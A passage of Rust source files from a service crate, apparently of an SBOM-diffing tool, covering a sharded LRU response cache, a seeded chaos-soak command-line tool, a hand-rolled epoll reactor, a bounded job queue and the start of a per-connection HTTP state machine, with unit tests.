    /// A cache holding roughly `capacity` responses (spread over 16
    /// shards; each shard keeps at least one entry).
    pub fn new(capacity: usize) -> Self {
        ResponseCache {
            shards: (0..SHARDS)
                .map(|_| {
                    Mutex::new(Shard {
                        entries: HashMap::new(),
                        tick: 0,
                    })
                })
                .collect(),
            per_shard_cap: capacity.div_ceil(SHARDS).max(1),
            hits: AtomicU64::new(0),
            misses: AtomicU64::new(0),
        }
    }

    /// The cache key for a request.
    pub fn key(path: &str, body: &[u8]) -> u128 {
        let lo = fnv1a(0xcbf2_9ce4_8422_2325, path.as_bytes(), body);
        let hi = fnv1a(0x6c62_272e_07bb_0142, path.as_bytes(), body);
        ((hi as u128) << 64) | lo as u128
    }

    /// Looks up a cached response, bumping its recency.
    pub fn get(&self, key: u128) -> Option<Arc<CacheEntry>> {
        let mut shard = self.shard(key).lock().expect("response cache shard");
        shard.tick += 1;
        let tick = shard.tick;
        match shard.entries.get_mut(&key) {
            Some(entry) => {
                entry.last_used = tick;
                let found = Arc::clone(&entry.entry);
                drop(shard);
                self.hits.fetch_add(1, Ordering::Relaxed);
                Some(found)
            }
            None => {
                drop(shard);
                self.misses.fetch_add(1, Ordering::Relaxed);
                None
            }
        }
    }

    /// Stores a response, evicting the least-recently-used entry of the
    /// shard when it is full.
    pub fn put(&self, key: u128, entry: Arc<CacheEntry>) {
        let mut shard = self.shard(key).lock().expect("response cache shard");
        shard.tick += 1;
        let tick = shard.tick;
        if shard.entries.len() >= self.per_shard_cap && !shard.entries.contains_key(&key) {
            if let Some(oldest) = shard
                .entries
                .iter()
                .min_by_key(|(_, e)| e.last_used)
                .map(|(k, _)| *k)
            {
                shard.entries.remove(&oldest);
            }
        }
        shard.entries.insert(
            key,
            Entry {
                entry,
                last_used: tick,
            },
        );
    }

    /// Cache hits so far.
    pub fn hits(&self) -> u64 {
        self.hits.load(Ordering::Relaxed)
    }

    /// Cache misses so far.
    pub fn misses(&self) -> u64 {
        self.misses.load(Ordering::Relaxed)
    }

    /// Hit ratio over all lookups (0 when none happened yet).
    pub fn hit_ratio(&self) -> f64 {
        let hits = self.hits() as f64;
        let total = hits + self.misses() as f64;
        if total == 0.0 {
            0.0
        } else {
            hits / total
        }
    }

    /// Total cached responses.
    pub fn len(&self) -> usize {
        self.shards
            .iter()
            .map(|s| s.lock().expect("response cache shard").entries.len())
            .sum()
    }

    /// True when nothing is cached.
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }

    fn shard(&self, key: u128) -> &Mutex<Shard> {
        &self.shards[(key as u64 ^ (key >> 64) as u64) as usize % SHARDS]
    }
}

fn fnv1a(offset: u64, a: &[u8], b: &[u8]) -> u64 {
    let mut h = offset;
    for &byte in a.iter().chain([0u8].iter()).chain(b.iter()) {
        h = (h ^ byte as u64).wrapping_mul(0x100_0000_01b3);
    }
    h
}

#[cfg(test)]
mod tests {
    use super::*;

    fn resp(tag: &str) -> Arc<CacheEntry> {
        Arc::new(CacheEntry::new(Response::json(
            200,
            format!("{{\"tag\":\"{tag}\"}}"),
        )))
    }

    #[test]
    fn distinct_payloads_get_distinct_keys() {
        let a = ResponseCache::key("/v1/diff", b"{\"a\":1}");
        let b = ResponseCache::key("/v1/diff", b"{\"a\":2}");
        let c = ResponseCache::key("/v1/analyze", b"{\"a\":1}");
        assert_ne!(a, b);
        assert_ne!(a, c);
        assert_eq!(a, ResponseCache::key("/v1/diff", b"{\"a\":1}"));
    }

    #[test]
    fn hit_after_put() {
        let cache = ResponseCache::new(8);
        let key = ResponseCache::key("/v1/diff", b"x");
        assert!(cache.get(key).is_none());
        cache.put(key, resp("one"));
        let found = cache.get(key).expect("hit");
        assert_eq!(found.response.body, resp("one").response.body);
        // The preserialized wire bytes match the persistent serialization.
        assert_eq!(&*found.wire, found.response.serialize(false).as_slice());
        assert_eq!((cache.hits(), cache.misses()), (1, 1));
        assert!((cache.hit_ratio() - 0.5).abs() < 1e-9);
    }

    #[test]
    fn lru_evicts_oldest_within_shard() {
        // Single-entry shards: every insertion evicts the previous tenant
        // of its shard, and the recently-used key must survive its shard.
        let cache = ResponseCache::new(1);
        let keys: Vec<u128> = (0..64u8)
            .map(|i| ResponseCache::key("/v1/analyze", &[i]))
            .collect();
        for (i, &k) in keys.iter().enumerate() {
            cache.put(k, resp(&i.to_string()));
        }
        assert!(cache.len() <= 16, "len={}", cache.len());
        // The last-inserted key's shard holds exactly that key.
        assert!(cache.get(*keys.last().unwrap()).is_some());
    }

    #[test]
    fn recency_protects_hot_entries() {
        // Two entries per shard: a hot key touched before every insertion
        // is never the LRU of its shard, so evictions always pick a cold
        // neighbor and the hot entry survives arbitrarily many inserts.
        let cache = ResponseCache::new(32);
        let hot = ResponseCache::key("/v1/diff", b"hot");
        cache.put(hot, resp("hot"));
        for i in 0..255u8 {
            assert!(cache.get(hot).is_some(), "hot evicted after {i} inserts");
            cache.put(ResponseCache::key("/v1/diff", &[i]), resp("cold"));
        }
        assert!(cache.get(hot).is_some());
        assert!(cache.len() <= 32, "len={}", cache.len());
    }

    #[test]
    fn shared_across_threads() {
        let cache = std::sync::Arc::new(ResponseCache::new(64));
        let key = ResponseCache::key("/healthz", b"");
        cache.put(key, resp("ok"));
        let results = sbomdiff_parallel::par_map(4, &[0u8; 16], |_, _| {
            cache.get(key).map(|r| r.response.body.clone())
        });
        for r in results {
            assert_eq!(r, Some(resp("ok").response.body.clone()));
        }
        assert_eq!(cache.hits(), 16);
    }
}

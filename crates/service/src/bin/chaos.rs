//! `sbomdiff-chaos` — seeded fault-injection soak for the serving stack.
//!
//! Runs N deterministic fault plans (derived from `--seed`) against the
//! tool emulators, the resolver, and in-process servers at two worker
//! counts, asserting the resilience contract: balanced fault accounting,
//! no panic across the worker-pool boundary, evidence for every surfaced
//! fault, and byte-identical responses regardless of parallelism.
//!
//! Exit code 0 = every plan soaked clean; 1 = violations (printed).

use std::process::ExitCode;

use sbomdiff_service::chaos::{self, ChaosConfig};

const VERSION: &str = env!("CARGO_PKG_VERSION");

const USAGE: &str = "\
sbomdiff-chaos - deterministic fault-injection soak

USAGE:
    sbomdiff-chaos [OPTIONS]

OPTIONS:
    --plans <N>      seeded fault plans to soak (default 25)
    --seed <N>       master seed; plan i = chaos(seed, i) (default 42)
    --requests <N>   requests per loadgen pass (default 18)
    --clients <N>    concurrent loadgen clients (default 3)
    --payloads <N>   distinct payloads per pass (default 6)
    --help, -h       print this help
    --version, -V    print the version
";

fn main() -> ExitCode {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let mut config = ChaosConfig::default();
    let mut it = args.iter();
    while let Some(flag) = it.next() {
        match flag.as_str() {
            "--help" | "-h" => {
                print!("{USAGE}");
                return ExitCode::SUCCESS;
            }
            "--version" | "-V" => {
                println!("sbomdiff-chaos {VERSION}");
                return ExitCode::SUCCESS;
            }
            "--plans" => match parse_num(it.next(), flag) {
                Ok(v) => config.plans = (v as usize).max(1),
                Err(code) => return code,
            },
            "--seed" => match parse_num(it.next(), flag) {
                Ok(v) => config.seed = v,
                Err(code) => return code,
            },
            "--requests" => match parse_num(it.next(), flag) {
                Ok(v) => config.requests = (v as usize).max(1),
                Err(code) => return code,
            },
            "--clients" => match parse_num(it.next(), flag) {
                Ok(v) => config.clients = (v as usize).max(1),
                Err(code) => return code,
            },
            "--payloads" => match parse_num(it.next(), flag) {
                Ok(v) => config.payloads = (v as usize).max(1),
                Err(code) => return code,
            },
            other => {
                eprintln!("error: unknown option `{other}`\n\n{USAGE}");
                return ExitCode::from(2);
            }
        }
    }

    match chaos::run(&config) {
        Ok(report) => {
            print!("{}", report.report());
            if report.ok() {
                ExitCode::SUCCESS
            } else {
                eprintln!("chaos soak FAILED (seed {}, reproducible)", config.seed);
                ExitCode::FAILURE
            }
        }
        Err(err) => {
            eprintln!("error: chaos soak failed to run: {err}");
            ExitCode::FAILURE
        }
    }
}

fn parse_num(value: Option<&String>, flag: &str) -> Result<u64, ExitCode> {
    match value.and_then(|v| v.parse::<u64>().ok()) {
        Some(v) => Ok(v),
        None => {
            eprintln!("error: {flag} requires a non-negative integer");
            Err(ExitCode::from(2))
        }
    }
}

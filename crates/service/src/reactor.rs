//! Minimal epoll wrapper — the event-notification core of the serving tier.
//!
//! The build environment is fully offline (no mio/tokio), so this module
//! speaks to the kernel directly through a hand-rolled `extern "C"` syscall
//! shim, the same convention the repo already uses for `signal(2)` in
//! `sbomdiff-serve` (the symbols live in the libc every Rust binary links
//! anyway). Three safe types are exposed:
//!
//! * [`Poller`] — an `epoll(7)` instance with edge-triggered registration
//!   ([`Poller::add`]) keyed by a caller-chosen `u64` token;
//! * [`Waker`] — an `eventfd(2)` registered under [`WAKER_TOKEN`], used by
//!   worker threads to interrupt a blocked [`Poller::wait`];
//! * [`bind_listener`] — a `socket`/`bind`/`listen` sequence with an
//!   *explicit* listen backlog (std's `TcpListener::bind` hardcodes 128,
//!   which overflows under loadgen connection bursts) handed back as a
//!   regular nonblocking [`std::net::TcpListener`].
//!
//! Everything here is Linux-specific; the crate targets the repo's Linux
//! CI/bench environment (see DESIGN.md §18).

use std::io;
use std::net::TcpListener;
use std::os::fd::{FromRawFd, RawFd};
use std::time::Duration;

/// Token reserved for the [`Waker`] eventfd.
pub const WAKER_TOKEN: u64 = u64::MAX;

/// Token reserved for the listening socket.
pub const LISTENER_TOKEN: u64 = u64::MAX - 1;

mod sys {
    //! Raw syscall surface. Constants match the Linux x86-64/aarch64 ABI.

    pub const EPOLL_CLOEXEC: i32 = 0o2000000;
    pub const EPOLL_CTL_ADD: i32 = 1;
    pub const EPOLL_CTL_DEL: i32 = 2;

    pub const EPOLLIN: u32 = 0x001;
    pub const EPOLLOUT: u32 = 0x004;
    pub const EPOLLERR: u32 = 0x008;
    pub const EPOLLHUP: u32 = 0x010;
    pub const EPOLLRDHUP: u32 = 0x2000;
    pub const EPOLLET: u32 = 1 << 31;

    pub const EFD_CLOEXEC: i32 = 0o2000000;
    pub const EFD_NONBLOCK: i32 = 0o4000;

    pub const AF_INET: i32 = 2;
    pub const SOCK_STREAM: i32 = 1;
    pub const SOCK_NONBLOCK: i32 = 0o4000;
    pub const SOCK_CLOEXEC: i32 = 0o2000000;
    pub const SOL_SOCKET: i32 = 1;
    pub const SO_REUSEADDR: i32 = 2;
    pub const IPPROTO_TCP: i32 = 6;
    pub const TCP_NODELAY: i32 = 1;

    // The kernel packs epoll_event to 12 bytes on x86-64 *only* (glibc's
    // EPOLL_PACKED); every other architecture (aarch64 included) uses the
    // natural 16-byte layout. Mirror that split exactly: a wrong stride
    // here means epoll_wait writes past our event-slot boundaries.
    #[repr(C)]
    #[cfg_attr(target_arch = "x86_64", repr(packed))]
    #[derive(Clone, Copy)]
    pub struct EpollEvent {
        pub events: u32,
        pub data: u64,
    }

    #[repr(C)]
    #[derive(Clone, Copy)]
    pub struct SockAddrIn {
        pub sin_family: u16,
        pub sin_port: u16,
        pub sin_addr: u32,
        pub sin_zero: [u8; 8],
    }

    extern "C" {
        pub fn epoll_create1(flags: i32) -> i32;
        pub fn epoll_ctl(epfd: i32, op: i32, fd: i32, event: *mut EpollEvent) -> i32;
        pub fn epoll_wait(epfd: i32, events: *mut EpollEvent, maxevents: i32, timeout: i32) -> i32;
        pub fn eventfd(initval: u32, flags: i32) -> i32;
        pub fn close(fd: i32) -> i32;
        pub fn read(fd: i32, buf: *mut u8, count: usize) -> isize;
        pub fn write(fd: i32, buf: *const u8, count: usize) -> isize;
        pub fn socket(domain: i32, ty: i32, protocol: i32) -> i32;
        pub fn bind(fd: i32, addr: *const SockAddrIn, len: u32) -> i32;
        pub fn listen(fd: i32, backlog: i32) -> i32;
        pub fn setsockopt(fd: i32, level: i32, name: i32, value: *const i32, len: u32) -> i32;
    }
}

/// One readiness notification out of [`Poller::wait`].
#[derive(Debug, Clone, Copy)]
pub struct Event {
    /// The token the file descriptor was registered under.
    pub token: u64,
    /// Readable (or a pending accept on the listener).
    pub readable: bool,
    /// Writable.
    pub writable: bool,
    /// Peer hung up or the descriptor errored; the owner should tear the
    /// connection down after draining what is still readable.
    pub hangup: bool,
}

/// A safe wrapper over one `epoll(7)` instance.
pub struct Poller {
    epfd: RawFd,
    buf: Vec<sys::EpollEvent>,
}

impl Poller {
    /// Creates the epoll instance.
    ///
    /// # Errors
    ///
    /// Propagates `epoll_create1` failure.
    pub fn new() -> io::Result<Poller> {
        let epfd = unsafe { sys::epoll_create1(sys::EPOLL_CLOEXEC) };
        if epfd < 0 {
            return Err(io::Error::last_os_error());
        }
        Ok(Poller {
            epfd,
            buf: vec![sys::EpollEvent { events: 0, data: 0 }; 1024],
        })
    }

    /// Registers `fd` for edge-triggered read+write readiness under
    /// `token`. Edge-triggered is deliberate: the connection state machine
    /// always drains until `WouldBlock`, so level-triggered re-delivery
    /// would only burn wakeups.
    ///
    /// # Errors
    ///
    /// Propagates `epoll_ctl` failure.
    pub fn add(&self, fd: RawFd, token: u64) -> io::Result<()> {
        let mut ev = sys::EpollEvent {
            events: sys::EPOLLIN | sys::EPOLLOUT | sys::EPOLLRDHUP | sys::EPOLLET,
            data: token,
        };
        let rc = unsafe { sys::epoll_ctl(self.epfd, sys::EPOLL_CTL_ADD, fd, &mut ev) };
        if rc < 0 {
            return Err(io::Error::last_os_error());
        }
        Ok(())
    }

    /// Registers `fd` for edge-triggered *read* readiness only (used for
    /// the listener and the waker, which are never written to).
    ///
    /// # Errors
    ///
    /// Propagates `epoll_ctl` failure.
    pub fn add_readable(&self, fd: RawFd, token: u64) -> io::Result<()> {
        let mut ev = sys::EpollEvent {
            events: sys::EPOLLIN | sys::EPOLLET,
            data: token,
        };
        let rc = unsafe { sys::epoll_ctl(self.epfd, sys::EPOLL_CTL_ADD, fd, &mut ev) };
        if rc < 0 {
            return Err(io::Error::last_os_error());
        }
        Ok(())
    }

    /// Deregisters `fd`.
    pub fn delete(&self, fd: RawFd) {
        // A fd being closed concurrently is fine; deregistration is
        // best-effort (close() drops the epoll membership anyway).
        unsafe { sys::epoll_ctl(self.epfd, sys::EPOLL_CTL_DEL, fd, std::ptr::null_mut()) };
    }

    /// Blocks until readiness or `timeout`, appending events to `out`.
    /// `None` blocks indefinitely (until a [`Waker`] fires).
    ///
    /// # Errors
    ///
    /// Propagates `epoll_wait` failure (`EINTR` is retried internally).
    pub fn wait(&mut self, out: &mut Vec<Event>, timeout: Option<Duration>) -> io::Result<()> {
        let timeout_ms = timeout_ms(timeout);
        loop {
            let n = unsafe {
                sys::epoll_wait(
                    self.epfd,
                    self.buf.as_mut_ptr(),
                    self.buf.len() as i32,
                    timeout_ms,
                )
            };
            if n < 0 {
                let err = io::Error::last_os_error();
                if err.kind() == io::ErrorKind::Interrupted {
                    continue;
                }
                return Err(err);
            }
            for ev in &self.buf[..n as usize] {
                // `packed` struct: copy fields out before touching them.
                let events = ev.events;
                let data = ev.data;
                out.push(Event {
                    token: data,
                    readable: events & (sys::EPOLLIN | sys::EPOLLRDHUP) != 0,
                    writable: events & sys::EPOLLOUT != 0,
                    hangup: events & (sys::EPOLLERR | sys::EPOLLHUP) != 0,
                });
            }
            return Ok(());
        }
    }
}

impl Drop for Poller {
    fn drop(&mut self) {
        unsafe { sys::close(self.epfd) };
    }
}

/// Millisecond timeout for `epoll_wait`: `None` blocks (-1); sub-millisecond
/// remainders round *up* so a 0.4ms deadline does not spin at timeout 0.
/// Clamped to `i32::MAX` after the round-up — the increment must not
/// overflow into a negative (block-forever) timeout.
fn timeout_ms(timeout: Option<Duration>) -> i32 {
    match timeout {
        None => -1,
        Some(t) => {
            let ms = t.as_millis() + u128::from(t.subsec_nanos() % 1_000_000 != 0);
            ms.min(i32::MAX as u128) as i32
        }
    }
}

/// Cross-thread wakeup for a blocked [`Poller::wait`], backed by a
/// nonblocking `eventfd(2)`. Clone-free: share it behind an `Arc`.
pub struct Waker {
    fd: RawFd,
}

// The fd is only ever read/written through atomic 8-byte eventfd ops.
unsafe impl Send for Waker {}
unsafe impl Sync for Waker {}

impl Waker {
    /// Creates the eventfd and registers it with `poller` under
    /// [`WAKER_TOKEN`].
    ///
    /// # Errors
    ///
    /// Propagates `eventfd` / registration failure.
    pub fn new(poller: &Poller) -> io::Result<Waker> {
        let fd = unsafe { sys::eventfd(0, sys::EFD_CLOEXEC | sys::EFD_NONBLOCK) };
        if fd < 0 {
            return Err(io::Error::last_os_error());
        }
        let waker = Waker { fd };
        poller.add_readable(fd, WAKER_TOKEN)?;
        Ok(waker)
    }

    /// Interrupts the event loop. Safe to call from any thread, any number
    /// of times; wakeups coalesce in the eventfd counter.
    pub fn wake(&self) {
        let one: u64 = 1;
        unsafe { sys::write(self.fd, std::ptr::addr_of!(one).cast(), 8) };
    }

    /// Drains coalesced wakeups; called by the event loop on
    /// [`WAKER_TOKEN`] readiness.
    pub fn drain(&self) {
        let mut counter = [0u8; 8];
        unsafe { sys::read(self.fd, counter.as_mut_ptr(), 8) };
    }
}

impl Drop for Waker {
    fn drop(&mut self) {
        unsafe { sys::close(self.fd) };
    }
}

/// Disables Nagle's algorithm on an accepted socket. The service writes
/// whole responses in single buffers, so delayed-ACK interaction with
/// Nagle only adds tail latency (the 105ms `max_us` outlier in the
/// pre-reactor BENCH_service.json was exactly this stall).
pub fn set_nodelay(fd: RawFd) {
    let one: i32 = 1;
    unsafe { sys::setsockopt(fd, sys::IPPROTO_TCP, sys::TCP_NODELAY, &one, 4) };
}

/// Binds `127.0.0.1:port` with `SO_REUSEADDR` and an explicit listen
/// `backlog`, returning a nonblocking [`TcpListener`]. `port` 0 asks the
/// kernel for an ephemeral port (read it back via `local_addr`).
///
/// # Errors
///
/// Propagates socket/bind/listen failures.
pub fn bind_listener(port: u16, backlog: i32) -> io::Result<TcpListener> {
    let fd = unsafe {
        sys::socket(
            sys::AF_INET,
            sys::SOCK_STREAM | sys::SOCK_NONBLOCK | sys::SOCK_CLOEXEC,
            0,
        )
    };
    if fd < 0 {
        return Err(io::Error::last_os_error());
    }
    // From here on the fd is owned by a guard so error paths close it.
    struct FdGuard(RawFd);
    impl Drop for FdGuard {
        fn drop(&mut self) {
            if self.0 >= 0 {
                unsafe { sys::close(self.0) };
            }
        }
    }
    let mut guard = FdGuard(fd);

    let one: i32 = 1;
    unsafe { sys::setsockopt(fd, sys::SOL_SOCKET, sys::SO_REUSEADDR, &one, 4) };
    let addr = sys::SockAddrIn {
        sin_family: sys::AF_INET as u16,
        sin_port: port.to_be(),
        // 127.0.0.1 in network byte order.
        sin_addr: u32::from_be_bytes([127, 0, 0, 1]).to_be(),
        sin_zero: [0; 8],
    };
    if unsafe { sys::bind(fd, &addr, std::mem::size_of::<sys::SockAddrIn>() as u32) } < 0 {
        return Err(io::Error::last_os_error());
    }
    if unsafe { sys::listen(fd, backlog) } < 0 {
        return Err(io::Error::last_os_error());
    }
    guard.0 = -1; // success: ownership moves to the TcpListener
    Ok(unsafe { TcpListener::from_raw_fd(fd) })
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io::Write;
    use std::net::TcpStream;
    use std::os::fd::AsRawFd;
    use std::sync::Arc;

    #[test]
    fn epoll_event_layout_matches_the_kernel_abi() {
        let size = std::mem::size_of::<sys::EpollEvent>();
        if cfg!(target_arch = "x86_64") {
            assert_eq!(size, 12, "x86-64 packs epoll_event");
        } else {
            assert_eq!(size, 16, "everywhere else uses the natural layout");
        }
    }

    #[test]
    fn timeout_round_up_clamps_instead_of_overflowing() {
        assert_eq!(timeout_ms(None), -1);
        assert_eq!(timeout_ms(Some(Duration::ZERO)), 0);
        assert_eq!(timeout_ms(Some(Duration::from_micros(400))), 1);
        assert_eq!(timeout_ms(Some(Duration::from_millis(5))), 5);
        // Exactly i32::MAX ms plus a sub-millisecond remainder: the +1
        // round-up must clamp, not wrap to a negative (infinite) timeout.
        assert_eq!(
            timeout_ms(Some(Duration::new(2_147_483, 647_500_000))),
            i32::MAX
        );
        assert_eq!(timeout_ms(Some(Duration::MAX)), i32::MAX);
    }

    #[test]
    fn waker_interrupts_blocking_wait() {
        let mut poller = Poller::new().unwrap();
        let waker = Arc::new(Waker::new(&poller).unwrap());
        let w2 = Arc::clone(&waker);
        let handle = std::thread::spawn(move || {
            std::thread::sleep(Duration::from_millis(30));
            w2.wake();
            w2.wake(); // coalesces
        });
        let mut events = Vec::new();
        poller
            .wait(&mut events, Some(Duration::from_secs(5)))
            .unwrap();
        handle.join().unwrap();
        assert!(events.iter().any(|e| e.token == WAKER_TOKEN && e.readable));
        waker.drain();
        // After draining, a short wait times out with no events.
        events.clear();
        poller
            .wait(&mut events, Some(Duration::from_millis(10)))
            .unwrap();
        assert!(events.iter().all(|e| e.token != WAKER_TOKEN));
    }

    #[test]
    fn listener_binds_with_backlog_and_reports_readable() {
        let listener = bind_listener(0, 64).unwrap();
        let addr = listener.local_addr().unwrap();
        assert!(addr.port() > 0);
        let mut poller = Poller::new().unwrap();
        poller
            .add_readable(listener.as_raw_fd(), LISTENER_TOKEN)
            .unwrap();
        let mut client = TcpStream::connect(addr).unwrap();
        client.write_all(b"x").unwrap();
        let mut events = Vec::new();
        poller
            .wait(&mut events, Some(Duration::from_secs(5)))
            .unwrap();
        assert!(events
            .iter()
            .any(|e| e.token == LISTENER_TOKEN && e.readable));
        // The pending connection accepts nonblocking.
        let (stream, _) = listener.accept().unwrap();
        set_nodelay(stream.as_raw_fd());
    }

    #[test]
    fn edge_triggered_socket_readiness_roundtrip() {
        let listener = bind_listener(0, 8).unwrap();
        let addr = listener.local_addr().unwrap();
        let mut poller = Poller::new().unwrap();
        poller
            .add_readable(listener.as_raw_fd(), LISTENER_TOKEN)
            .unwrap();
        let mut client = TcpStream::connect(addr).unwrap();
        let mut events = Vec::new();
        poller
            .wait(&mut events, Some(Duration::from_secs(5)))
            .unwrap();
        let (stream, _) = listener.accept().unwrap();
        stream.set_nonblocking(true).unwrap();
        poller.add(stream.as_raw_fd(), 7).unwrap();
        client.write_all(b"ping").unwrap();
        events.clear();
        // Writable fires immediately on registration (ET reports the
        // current state once); readable arrives with the payload.
        let deadline = std::time::Instant::now() + Duration::from_secs(5);
        let mut saw_readable = false;
        while !saw_readable && std::time::Instant::now() < deadline {
            poller
                .wait(&mut events, Some(Duration::from_millis(100)))
                .unwrap();
            saw_readable = events.iter().any(|e| e.token == 7 && e.readable);
        }
        assert!(saw_readable);
        poller.delete(stream.as_raw_fd());
    }
}

//! Bounded job queue with admission control.
//!
//! The reactor thread pushes parsed requests (cache misses only — hits
//! are answered inline, see DESIGN.md §18); worker threads block on
//! [`BoundedQueue::pop`]. When the queue is full, [`BoundedQueue::push`]
//! fails immediately and the reactor answers 429 in pipeline order on the
//! surviving connection — load is shed at the door instead of growing an
//! unbounded backlog (the paper-scale corpus runs showed the analysis
//! endpoints are CPU-bound, so queued work behind a slow request would
//! only add latency, never throughput).

use std::collections::VecDeque;
use std::sync::{Condvar, Mutex};

/// A fixed-capacity MPMC queue; `pop` blocks, `push` never does.
pub struct BoundedQueue<T> {
    inner: Mutex<Inner<T>>,
    ready: Condvar,
    capacity: usize,
}

struct Inner<T> {
    items: VecDeque<T>,
    closed: bool,
}

impl<T> BoundedQueue<T> {
    /// A queue admitting at most `capacity` items (minimum 1).
    pub fn new(capacity: usize) -> Self {
        BoundedQueue {
            inner: Mutex::new(Inner {
                items: VecDeque::new(),
                closed: false,
            }),
            ready: Condvar::new(),
            capacity: capacity.max(1),
        }
    }

    /// Enqueues `item`, or returns it when the queue is full or closed.
    pub fn push(&self, item: T) -> Result<(), T> {
        let mut inner = self.inner.lock().expect("queue lock");
        if inner.closed || inner.items.len() >= self.capacity {
            return Err(item);
        }
        inner.items.push_back(item);
        drop(inner);
        self.ready.notify_one();
        Ok(())
    }

    /// Dequeues the oldest item, blocking while the queue is open and
    /// empty. Returns `None` only once the queue is closed *and* drained,
    /// so closing never drops accepted work.
    pub fn pop(&self) -> Option<T> {
        let mut inner = self.inner.lock().expect("queue lock");
        loop {
            if let Some(item) = inner.items.pop_front() {
                return Some(item);
            }
            if inner.closed {
                return None;
            }
            inner = self.ready.wait(inner).expect("queue lock");
        }
    }

    /// Closes the queue: pending pushes fail, poppers drain then exit.
    pub fn close(&self) {
        self.inner.lock().expect("queue lock").closed = true;
        self.ready.notify_all();
    }

    /// Current depth (for the `/metrics` gauge).
    pub fn len(&self) -> usize {
        self.inner.lock().expect("queue lock").items.len()
    }

    /// True when no items are waiting.
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::sync::Arc;

    #[test]
    fn rejects_when_full() {
        let q = BoundedQueue::new(2);
        assert!(q.push(1).is_ok());
        assert!(q.push(2).is_ok());
        assert_eq!(q.push(3), Err(3));
        assert_eq!(q.pop(), Some(1));
        assert!(q.push(3).is_ok());
    }

    #[test]
    fn close_drains_then_ends() {
        let q = BoundedQueue::new(4);
        q.push(10).unwrap();
        q.push(11).unwrap();
        q.close();
        assert_eq!(q.push(12), Err(12));
        assert_eq!(q.pop(), Some(10));
        assert_eq!(q.pop(), Some(11));
        assert_eq!(q.pop(), None);
    }

    #[test]
    fn capacity_zero_still_admits_one() {
        let q = BoundedQueue::new(0);
        assert!(q.push(1).is_ok());
        assert_eq!(q.push(2), Err(2));
    }

    #[test]
    fn blocking_pop_wakes_on_push() {
        let q = Arc::new(BoundedQueue::new(4));
        let q2 = Arc::clone(&q);
        let popper = std::thread::spawn(move || q2.pop());
        std::thread::sleep(std::time::Duration::from_millis(20));
        q.push(7usize).unwrap();
        assert_eq!(popper.join().unwrap(), Some(7));
    }

    #[test]
    fn close_wakes_blocked_poppers() {
        let q = Arc::new(BoundedQueue::<u8>::new(4));
        let handles: Vec<_> = (0..3)
            .map(|_| {
                let q = Arc::clone(&q);
                std::thread::spawn(move || q.pop())
            })
            .collect();
        std::thread::sleep(std::time::Duration::from_millis(20));
        q.close();
        for h in handles {
            assert_eq!(h.join().unwrap(), None);
        }
    }
}

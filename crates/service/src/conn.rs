//! Per-connection state machine for the reactor (DESIGN.md §18).
//!
//! Each accepted socket owns a [`Conn`]: a growable read buffer the event
//! loop drains edge-triggered reads into, an incremental parse cursor over
//! that buffer, and a write queue of response buffers that are flushed in
//! *request order* even when worker completions arrive out of order
//! (pipelining). Responses can be owned byte vectors or shared `Arc`
//! slices — the preserialized cache-hit path writes straight from the
//! cache entry's wire bytes without copying.
//!
//! The state machine never blocks: reads and writes stop at `WouldBlock`
//! and resume on the next readiness event. Timeout decisions (idle,
//! slow-header, slow-body) are made by the event loop from the facts
//! [`Conn`] exposes: what phase the buffer ends in and when it last made
//! progress.

use std::collections::{BTreeMap, VecDeque};
use std::io::{Read, Write};
use std::net::TcpStream;
use std::sync::Arc;
use std::time::Instant;

use crate::http::{parse_request, ParseStatus, ReadPhase, Request, MAX_BODY_BYTES, MAX_HEAD_BYTES};

/// Read granularity per `read(2)` call.
const READ_CHUNK: usize = 16 * 1024;

/// Chunk budget per [`Conn::fill`] call: one greedy peer yields the event
/// loop after this many reads. Budget-exhausted connections set
/// [`Conn::wants_fill`] so the loop re-fills them itself — edge-triggered
/// epoll never re-announces bytes already in the kernel buffer.
const MAX_FILL_CHUNKS: usize = 16;

/// Cap on buffered-but-unparsed bytes: a complete request needs at most
/// head + body (plus one read's slack).
const MAX_UNPARSED_BYTES: usize = MAX_HEAD_BYTES + MAX_BODY_BYTES + READ_CHUNK;

/// A queued outgoing buffer: owned bytes, or a shared slice written
/// zero-copy (the preserialized cache-hit body).
#[derive(Debug, Clone)]
pub enum WriteBuf {
    /// Response bytes owned by this connection.
    Owned(Vec<u8>),
    /// Response bytes shared with the response cache.
    Shared(Arc<[u8]>),
}

impl WriteBuf {
    fn as_bytes(&self) -> &[u8] {
        match self {
            WriteBuf::Owned(v) => v,
            WriteBuf::Shared(s) => s,
        }
    }
}

/// What [`Conn::fill`] observed on the socket.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum FillOutcome {
    /// Read some bytes (and stopped at `WouldBlock` or the chunk budget).
    Progress,
    /// The peer half-closed its write side (EOF). Responses still owed can
    /// and must be delivered before teardown.
    Eof,
    /// The socket errored; tear the connection down.
    Broken,
}

/// One parsed request handed to the dispatcher, tagged with its pipeline
/// sequence number.
#[derive(Debug)]
pub struct ParsedRequest {
    /// Position in the connection's pipeline; responses are written in
    /// ascending `seq` order.
    pub seq: u64,
    /// The request itself.
    pub request: Request,
    /// Whether the connection survives this request (RFC 9112 §9.3).
    pub keep_alive: bool,
}

/// Why parsing stopped (see [`Conn::extract_requests`]).
#[derive(Debug, PartialEq, Eq)]
pub enum ParseHalt {
    /// Buffer exhausted cleanly: waiting for more bytes (or idle).
    NeedMore,
    /// The pipeline cap was reached; parsing resumes after completions.
    Backpressure,
    /// A framing error was answered; the connection is closing.
    Errored,
}

/// The per-connection state machine.
pub struct Conn {
    /// The nonblocking accepted socket.
    pub stream: TcpStream,
    /// Slot-reuse guard: completions carry (token, generation) and are
    /// dropped when the slot was recycled in the meantime.
    pub generation: u64,
    rbuf: Vec<u8>,
    rpos: usize,
    wqueue: VecDeque<WriteBuf>,
    wpos: usize,
    /// Next sequence number to assign to a parsed request.
    next_seq: u64,
    /// Sequence number whose response is next on the wire.
    next_write_seq: u64,
    /// Out-of-order completions parked until their turn.
    pending: BTreeMap<u64, (WriteBuf, bool)>,
    /// Requests dispatched to workers and not yet completed.
    pub inflight: usize,
    /// Once set, no further requests are parsed and the connection closes
    /// after the response for the last assigned seq is written.
    closing: bool,
    /// Peer sent EOF (half-close): deliver owed responses, then close.
    pub read_closed: bool,
    /// Last time the socket made read progress or went idle.
    pub last_activity: Instant,
    /// When the current partial request started pending, and its phase.
    pub partial_since: Option<(Instant, ReadPhase)>,
